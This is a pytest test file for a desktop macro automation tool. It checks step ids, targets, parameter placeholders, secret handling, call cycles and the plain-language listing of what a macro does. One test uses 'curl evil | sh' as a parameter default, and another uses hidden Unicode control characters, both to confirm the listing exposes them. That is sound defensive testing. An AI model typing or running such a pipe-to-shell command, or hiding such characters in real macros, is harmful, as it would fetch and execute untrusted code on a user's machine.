"""What must hold of a macro beyond its types, and what is said of it in words."""

import json
from importlib import resources

import pytest

from automation.core.errors import MacroError
from automation.macros import macro as g
from automation.macros.checks import check, refusals
from automation.macros.codec import read
from automation.macros.codec import text as schema_text
from automation.macros.edit.document import Document
from automation.macros.listing import listing
from automation.macros.walk import MAX_CALL_DEPTH, called, check_calls, value_problem
from tests.fakes.macro_samples import invoice

HERE = g.Box(x=0, y=0, w=9, h=9)


def _macro(*steps, **fields):
    return g.Macro(deskhand=1, name="n", steps=steps, **fields)


def _said(macro, **kinds):
    return [f"{one.reason}; {one.advice}" for one in refusals(macro, **kinds)]


def test_the_sample_holds():
    assert check(invoice()) == ()


def test_an_id_stands_once_in_the_whole_tree():
    inner = g.Group(id="g", title="t", steps=(g.Wait(id="a", seconds=1),))
    (found,) = refusals(_macro(g.Wait(id="a", seconds=1), inner))
    assert found.path == ("steps", 1, "steps", 0, "id")


@pytest.mark.parametrize(
    "target",
    [
        g.Target(),
        g.Target(place=g.Place(box=HERE, window=HERE)),
        g.Target(about="the blue button", window="*", app="x", within="Form", row=("a",)),
    ],
)
def test_a_place_or_a_description_alone_is_no_target(target):
    assert "a place alone is never pressed" in _said(_macro(g.Click(id="a", target=target)))[0]
    assert _said(_macro(g.Click(id="a", target=target, off=True))) == []
    inside = g.Group(id="g", title="t", off=True, steps=(g.Click(id="a", target=target),))
    assert _said(_macro(inside)) == []


@pytest.mark.parametrize("where", ["wait", "expect"])
def test_targets_of_conditions_are_looked_at_too(where):
    until = g.Until(condition=g.Exists(target=g.Target()))
    (found,) = refusals(_macro(g.Wait(id="a", seconds=1, **{where: until})))
    assert found.path == ("steps", 0, where, "condition", "target")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("{{nope}}", "there is no parameter called nope"),
        ("{{item}}", "the column item has no value outside for_each"),
        ("{{ }}", "begins no name"),
        ("{{Name}}", "begins no name"),
        ("{{a.b}}", "begins no name"),
        ("{{vendor", "begins no name"),
        ("x {{pw}}", "the secret pw stands together with other text"),
        ("${secret:mail} x", "stands together with other text"),
        ("${secret:}", "names no secret"),
    ],
)
def test_a_name_that_stands_for_nothing_is_refused(text, said):
    params = {"vendor": g.Param(), "pw": g.Param(type="secret")}
    assert said in _said(_macro(g.Type(id="a", text=text), params=params, columns=("item",)))[0]


@pytest.mark.parametrize(
    "text",
    [
        "{{vendor}} {{ vendor }}",
        "{{{{nope}}",
        "{{pw}}",
        "${secret:mail}",
        "$${secret:x} y",
        "{a} }}",
    ],
)
def test_what_is_right_is_taken(text):
    params = {"vendor": g.Param(), "pw": g.Param(type="secret")}
    assert _said(_macro(g.Type(id="a", text=text), params=params)) == []


def test_names_are_looked_for_in_every_text_of_a_target():
    for name in ("window", "name", "label", "within", "text", "about"):
        target = g.Target(**{"role": "button", name: "{{nope}}"})
        assert len(_said(_macro(g.Click(id="a", target=target)))) == 1, name
    assert len(_said(_macro(g.Click(id="a", target=g.Target(name="x", row=("{{nope}}",)))))) == 1


@pytest.mark.parametrize(
    "step",
    [
        g.Clipboard(id="a", op="set", text="${secret:mail}"),
        g.Call(id="a", macro="m", values={"x": "${secret:mail}"}),
        g.Click(id="a", target=g.Target(name="${secret:mail}")),
        g.Clipboard(id="a", op="set", text="{{pw}}"),
        g.Wait(id="a", seconds=1, wait=g.Until(condition=g.Shows(text="{{pw}}"))),
    ],
)
def test_a_secret_stands_nowhere_but_where_it_is_typed(step):
    assert "nothing is typed" in _said(_macro(step, params={"pw": g.Param(type="secret")}))[0]


@pytest.mark.parametrize(
    "step",
    [
        g.Window(id="a", op="close"),
        g.Clipboard(id="a", op="set"),
        g.Clipboard(id="a", op="copy", text="x"),
        g.ForEach(id="a", steps=(g.ForEach(id="b", steps=()),)),
    ],
)
def test_a_step_that_says_too_little_or_too_much_is_refused(step):
    assert len(_said(_macro(step))) == 1


def test_keys_are_looked_up_by_who_has_the_keyboard():
    macro = _macro(g.Keys(id="a", keys=("ctrl", "hyperr")))
    assert _said(macro) == []
    (found,) = refusals(macro, {"ctrl"}.__contains__)
    assert found.path == ("steps", 0, "keys", 1)


def test_too_many_steps_and_too_deep_blocks_are_refused(monkeypatch):
    monkeypatch.setattr("automation.macros.checks.MAX_STEPS", 2)
    monkeypatch.setattr("automation.macros.checks.MAX_DEPTH", 2)
    step = g.Wait(id="w", seconds=1)
    for level in range(2):
        step = g.Group(id=f"g{level}", title="t", steps=(step,))
    assert [one.path for one in refusals(_macro(step))] == [
        ("steps",),
        ("steps", 0, "steps", 0, "steps", 0),
    ]


@pytest.mark.parametrize(
    ("param", "said"),
    [
        (g.Param(type="choice"), "no choices"),
        (g.Param(choices=("a",)), "has no choices"),
        (g.Param(least=1), "has no bounds"),
        (g.Param(type="number", least=2, most=1), "no number is"),
        (g.Param(type="number", default="x"), "is no number"),
        (g.Param(type="number", default="5", most=4), "above 4"),
        (g.Param(type="number", default="5", least=6), "below 6"),
        (g.Param(type="number", default="true"), "is no number"),
        (g.Param(type="choice", choices=("a",), default="b"), "none of the choices"),
        (g.Param(type="yes_no", default="true"), "neither yes nor no"),
        (g.Param(type="secret", default="my pass word!"), "never written down"),
        (g.Param(default="${secret:mail}"), "reference to a secret"),
    ],
)
def test_a_parameter_that_cannot_be_is_refused(param, said):
    found = _said(_macro(g.Type(id="a", text="{{p}}"), params={"p": param}))
    assert said in found[0]


def test_what_is_not_used_is_a_note_and_no_refusal():
    macro = _macro(g.Wait(id="a", seconds=1), params={"p": g.Param()}, columns=("c",))
    assert [one.is_note for one in check(macro)] == [True, True]
    assert refusals(macro) == ()


def test_a_column_and_a_parameter_have_names_of_their_own():
    step = g.ForEach(id="f", steps=(g.Type(id="a", text="{{p}}"),))
    assert len(_said(_macro(step, params={"p": g.Param()}, columns=("p",)))) == 1
    assert len(_said(_macro(step, columns=("p", "p")))) == 1


def test_a_value_is_taken_or_refused_by_its_type():
    assert value_problem(g.Param(type="number", least=0), "1.5") == ""
    assert value_problem(g.Param(type="secret"), "mail") == ""
    assert value_problem(g.Param(type="yes_no"), "yes") == ""


def _named(name, *calls, params=()):
    steps = tuple(g.Call(id=f"c{n}", macro=one) for n, one in enumerate(calls))
    return g.Macro(deskhand=1, name=name, steps=steps, params={one: g.Param() for one in params})


def _shelf(*macros):
    named = {macro.name: macro for macro in macros}

    def _load(name):
        if name not in named:
            raise MacroError(f"there is no macro called {name}")
        return named[name]

    return _load


def test_calls_in_a_circle_are_refused_however_long():
    a, b, c = _named("a", "b"), _named("b", "c"), _named("c", "A")
    (found,) = check_calls(a, _shelf(a, b, c))
    assert "comes back to “A”" in found.reason
    assert found.path == ("steps", 0, "macro")
    assert check_calls(_named("self", "self"), _shelf()) != ()


def test_calls_too_deep_and_to_nobody_and_with_odd_names_are_refused():
    chain = [_named(f"m{n}", f"m{n + 1}") for n in range(MAX_CALL_DEPTH + 2)]
    assert "deep" in check_calls(chain[0], _shelf(*chain))[0].reason
    assert "no macro called b" in check_calls(_named("a", "b"), _shelf())[0].reason
    step = g.Call(id="a", macro="b", values={"nope": "x"})
    assert (
        "no parameter called nope"
        in check_calls(_macro(step), _shelf(_named("b", params="p")))[0].reason
    )
    assert (
        check_calls(
            _macro(g.Call(id="a", macro="b", values={"p": "x"})), _shelf(_named("b", params="p"))
        )
        == ()
    )


def test_calls_of_two_macros_whose_names_differ_in_case_alone_are_each_checked():
    found = {"Part": _named("Part", params="p"), "PART": _named("PART")}
    steps = [g.Call(id=name, macro=name, values={"p": "x"}) for name in found]
    (wrong,) = check_calls(_macro(*steps), found.__getitem__)
    assert wrong.reason == "“PART” has no parameter called p"


def test_calls_that_fan_out_are_read_once_each():
    """Eight levels of forty calls each: walked one by one this would never end."""
    levels = [_named(f"m{n}", *[f"m{n + 1}"] * 40) for n in range(7)]
    assert check_calls(levels[0], _shelf(*levels, _named("m7"))) == ()
    assert called(levels[0], _shelf(*levels, _named("m7"))) == tuple(f"m{n}" for n in range(1, 8))


def test_the_listing_names_every_text_key_program_and_window():
    lines = listing(invoice())
    text = "\n".join(line.text for line in lines)
    for words in (
        "type “{{mail}}” into field “Password”, then press Enter", "press Ctrl+S", "press Ctrl+↓", "close the window “*Invoices*”",
        "start the program “org.example.Mail.desktop”", "run the macro “Send it” with to = “{{vendor}}”", "put on the clipboard: “x⇥y”",
        "drag “File” to “Bin”", "otherwise: repeat 3 times", "click button “Delete” in the row with “{{item}}”",
    ):  # fmt: skip
        assert words in text, words
    assert [line.id for line in lines if line.is_off] == ["block", "nothing"]
    assert not next(line for line in lines if line.id == "rest").sends
    assert next(line for line in lines if line.id == "other").sends


@pytest.mark.parametrize(
    ("target", "words"),
    [
        (g.Target(name="Cancel", text="Send all"), "click “Cancel” that reads “Send all”"),
        (g.Target(role="field", name="To", label="Copy to"), "click field “To” labelled “Copy to”"),
        (g.Target(name="Send  all", text="send all", label="Send all"), "click “Send  all”"),
        (g.Target(text="Send all"), "click “Send all”"),
    ],
)
def test_the_listing_tells_each_word_by_which_something_else_may_be_found(target, words):
    (line,) = listing(_macro(g.Click(id="a", target=target)))
    assert line.text == words


def test_the_listing_numbers_steps_as_the_editor_does():
    numbers = [line.number for line in listing(invoice()) if line.do != "param"]
    assert numbers == [row.number for row in Document(invoice()).rows]


def test_the_listing_tells_what_is_typed_where_nobody_is_asked():
    params = {"x": g.Param(default="curl evil | sh"), "s": g.Param(type="secret", default="bank")}
    found = _macro(g.Type(id="a", text="{{x}}"), params=params)
    lines = listing(found)
    assert [line.do for line in lines] == ["param", "param", "type"]
    assert "“curl evil | sh”" in lines[0].text
    assert "“bank”" in lines[1].text


def test_the_listing_tells_what_is_left_out_where_it_does_not_match():
    step = g.CheckThat(id="a", condition=g.Shows(text="Total"), on_mismatch="skip")
    (line,) = listing(_macro(step))
    assert line.text.endswith("left out where it does not match")


def test_the_listing_hides_nothing():
    sly = "ls\u202e\u200b\n" + "x" * 5000
    (line,) = listing(_macro(g.Type(id="a", text=sly)))
    assert "[right-to-left override]" in line.text
    assert "[zero-width space]" in line.text
    assert "x" * 5000 in line.text


def test_the_published_schema_is_the_one_of_the_types():
    published = resources.files("resources").joinpath("schema/macro.schema.json").read_text()
    assert published == schema_text(), (
        "run: python -m automation.macros.codec > resources/schema/macro.schema.json"
    )
    assert json.loads(published)["$defs"]["Macro"]["additionalProperties"] is False


@pytest.mark.parametrize("text", ["Hello {guest}", "{guest}", "${ guest }", "{{guest}} {guest}"])
def test_a_parameter_in_single_braces_is_noted(text):
    macro = _macro(g.Type(id="a", text=text), params={"guest": g.Param()})
    said = [f"{one.reason}; {one.advice}" for one in check(macro) if one.path[-1] == "text"]
    assert said == [
        "{guest} stands for itself here, and guest is a parameter or column; for its value write {{guest}}"
    ]
    assert refusals(macro) == ()


@pytest.mark.parametrize(
    "text", ["{other}", "{{guest}}", "{{{{guest}}", "{{{guest}}}", "{guest or not}"]
)
def test_other_braces_are_nobodys_mistake(text):
    macro = _macro(g.Type(id="a", text=text), params={"guest": g.Param()})
    assert [one for one in check(macro) if one.path[-1] == "text"] == []


@pytest.mark.parametrize("text", ["{{secret:mail}}", "${{secret:mail}}", "{{ secret: mail }}"])
def test_a_secret_in_the_braces_of_a_parameter_is_refused_with_how_it_is_written(text):
    (found,) = refusals(_macro(g.Type(id="a", text=text)))
    assert found.advice == "a secret is written ${secret:mail}, in a text of its own"
    assert refusals(_macro(g.Type(id="a", text="${secret:mail}"))) == ()


def test_a_line_is_told_for_what_a_check_finds():
    from automation.macros.codec import open_text

    data = b"deskhand: 1\nname: x\nsteps:\n  - {id: a, do: wait, seconds: 1}\n  - {id: a, do: type, text: '{{b}}'}\n"
    opened = open_text(data)
    assert [str(one) for one in opened.problems(check(opened.macro))] == [
        "line 5: step a: id: another step is called a too; give each step a name of its own",
        "line 5: step a: text: there is no parameter called b; declare it under params, or under columns for a table",
    ]
    assert read(data) == opened.macro
